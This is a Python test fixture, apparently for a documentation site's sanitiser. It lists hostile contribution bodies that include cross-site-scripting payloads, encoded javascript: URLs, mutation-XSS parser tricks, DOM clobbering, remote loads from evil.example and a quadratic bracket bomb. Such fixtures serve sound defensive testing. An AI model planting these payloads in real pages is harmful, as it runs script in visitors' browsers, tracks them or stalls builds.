"""Hostile contributions: what a malicious contributor could put in a case, an event, the
guidelines' text or an issue body. Each tries to run script, to reach the site's script or
the theme's (their settings, their loaders), or to make a page request another host."""

from __future__ import annotations

EVIL = "evil.example"
# A body each: named for the trick it tries.
BODIES = {
    "search-loader": (
        '<div id="cb-search" data-bundle="//evil.example/"></div>\n\n'
        '<div class="cb-search" data-cb-search data-cb-bundle="//evil.example/"></div>\n'
    ),
    "attribute-lists": (
        "A paragraph.\n{: #cb-search data-bundle=//evil.example/ data-cb-search "
        "data-cb-bundle=//evil.example/ }\n\n"
        "## A heading {: data-md-component=search .md-search #__config }\n"
    ),
    "explorer-gadget": (
        "<div data-cb-filterable><form data-cb-filters>"
        '<input type="checkbox" name="type" value="co-creation">'
        '</form><ol data-cb-list data-cb-source="https://evil.example/data.json" '
        'data-cb-base="https://evil.example/"></ol></div>\n'
    ),
    "theme-hooks": (
        '<div id="__config">{"base": "https://evil.example/", "search": "https://evil.example/w.js"}</div>\n'
        '<div data-md-component="announce" data-md-state="x"></div><div id="__search"></div>'
        '<p class="md-search md-header cb-facet--long">x</p>\n'
    ),
    "scripts-and-handlers": (
        '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 1">'
        '<a href="javascript:window.__pwned = 1">click</a><a href="data:text/html,<script>x</script>">d</a>'
        '<a href="vbscript:x">v</a>'
        '<p onclick="window.__pwned = 1" onmouseover="window.__pwned = 1">hover</p>\n'
    ),
    "other-hosts": (
        '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>'
        '<embed src="https://evil.example/e"><style>body{background:url(https://evil.example/bg)}</style>'
        '<p style="background:url(https://evil.example/s)">styled</p>'
        '<link rel="stylesheet" href="https://evil.example/c.css">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
        '<form action="https://evil.example/"><button formaction="https://evil.example/f">go</button></form>\n'
    ),
    "remote-images": (
        "![a pixel](https://evil.example/pixel.gif)\n\n"
        '<img src="//evil.example/p1.gif" alt="p1"><img src="/\\evil.example/p2.gif" alt="p2">'
        '<img src=" https://evil.example/p3.gif" alt="p3"><img src="/&#9;/evil.example/p4.gif" alt="p4">'
        '<img srcset="https://evil.example/p5.gif 1x" alt="p5"><video src="https://evil.example/v.mp4"></video>'
        '<audio src="https://evil.example/a.mp3"></audio><video poster="https://evil.example/poster.png"></video>\n'
    ),
    "svg-and-mathml": (
        '<svg><script>window.__pwned = 1</script><a xlink:href="javascript:window.__pwned = 1"><text>x</text>'
        '</a><image href="https://evil.example/i.png"/></svg>'
        '<math><mtext><table><mglyph><style><img src="x" onerror="window.__pwned = 1"></style></mglyph>'
        "</table></mtext></math>\n"
    ),
    "clobbering": (
        '<a id="document$">x</a><img name="PagefindUI" alt="n">'
        '<a id="PagefindUI" href="https://evil.example/">p</a>'
        '<p id="lesson-1">a false lesson anchor</p><p id="cb-q">q</p><p id="timeline-1">t</p>\n'
    ),
    "embedded-file": '<a rel="attachment" href="https://evil.example/file.exe">a file for the PDF</a>\n',
    "encoded-schemes": (
        '<a href="&#106;avascript:window.__pwned = 1">e</a>'
        '<a href="jav&#x09;ascript:window.__pwned = 1">t</a>'
        '<a href=" javascript:window.__pwned = 1">s</a>\n'
    ),
    "parser-tricks": (
        "<template><script>window.__pwned = 1</script></template>"
        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></p></noscript>'
        '<select><style></select><img src="x" onerror="window.__pwned = 1"></style>\n'
        "<!-- <img src=x onerror=window.__pwned=1> -->\n"
    ),
}
# Text that only a long time in Python-Markdown would convert (n² in the brackets).
BRACKET_BOMB = "[" * 20_000
